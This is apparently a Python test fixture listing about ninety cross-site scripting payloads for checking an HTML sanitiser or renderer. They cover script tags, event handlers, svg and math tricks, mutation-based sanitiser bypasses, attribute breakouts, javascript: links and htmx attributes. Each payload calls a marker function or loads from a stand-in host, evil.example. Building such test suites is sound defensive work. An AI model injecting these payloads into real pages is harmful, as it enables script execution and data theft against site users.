"""Markup that runs a script where it is printed as it came; each would call `__pwned(number)`.

Ours, by family: script, events of many elements, svg, math, what a sanitiser mends into something else, text
that breaks out of attributes and of script, addresses, styles.
"""

from __future__ import annotations

RUN = "__pwned(0)"
# a page that asks for this address was written by somebody else
ASKED = "https://evil.example/pwned"

PAYLOADS = [
    # script
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script\n>",
    f'<script src="data:text/javascript,{RUN}"></script>',
    f'<script src="{ASKED}.js"></script>',
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    # events
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'/>",
    f'<img/src="x"/onerror="{RUN}">',
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img src=`x` onerror={RUN}//",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<iframe onload={RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f'<object data="javascript:{RUN}" onerror={RUN}></object>',
    f'<object data="data:text/html,<script>parent.{RUN}</script>"></object>',
    f'<embed src="data:text/html,<script>parent.{RUN}</script>">',
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a href=# onmouseover={RUN}>x</a>",
    f"<div style=width:99px;animation-name:x onanimationstart={RUN}>x</div>",
    f"<link rel=stylesheet href=x onerror={RUN}>",
    f"<p contenteditable autofocus onfocus={RUN}>x</p>",
    # svg and math
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    "<svg><script>&#95;&#95;pwned&#40;0&#41;</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><set onbegin={RUN} attributeName=x></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text x=9 y=9>x</text></a></svg>',
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN}>#x"/></svg>',
    f'<math><mtext><img src=x onerror="{RUN}"></mtext></math>',
    f'<math href="javascript:{RUN}"><mi>x</mi></math>',
    # what changes its meaning when it is read twice
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<template><img src=x onerror={RUN}></template><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    f"&lt;img src=x onerror={RUN}&gt;<img src=x onerror={RUN}>",
    # out of an attribute, a script, a title, a text field
    f'" onfocus="{RUN}" autofocus="',
    f"' onfocus='{RUN}' autofocus='",
    f'" style="animation-name:x" onanimationstart="{RUN}',
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f'\\";{RUN};//',
    f"';{RUN};//",
    "${" + RUN + "}",
    f"\u2028{RUN}\u2028",
    # addresses
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href="java&#x09;script:{RUN}">x</a>',
    f"[x](javascript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f'[x](https://example.com/" onmouseover="{RUN})',
    f"javascript:{RUN}",
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    '<base href="https://evil.example/pwned/">',
    f'<meta http-equiv="refresh" content="0;url={ASKED}">',
    # styles and what asks elsewhere
    f"<style>*{{background:url({ASKED})}}</style>",
    f"<style>@import '{ASKED}';</style>",
    f'<div style="background:url({ASKED})">x</div>',
    f'<link rel="stylesheet" href="{ASKED}.css">',
    f'<img src="{ASKED}.png">',
    # what htmx would obey
    f'<div hx-get="{ASKED}" hx-trigger="load">x</div>',
    f'<div hx-on:htmx:load="{RUN}">x</div>',
    f'<div data-hx-get="{ASKED}" data-hx-trigger="load">x</div>',
]
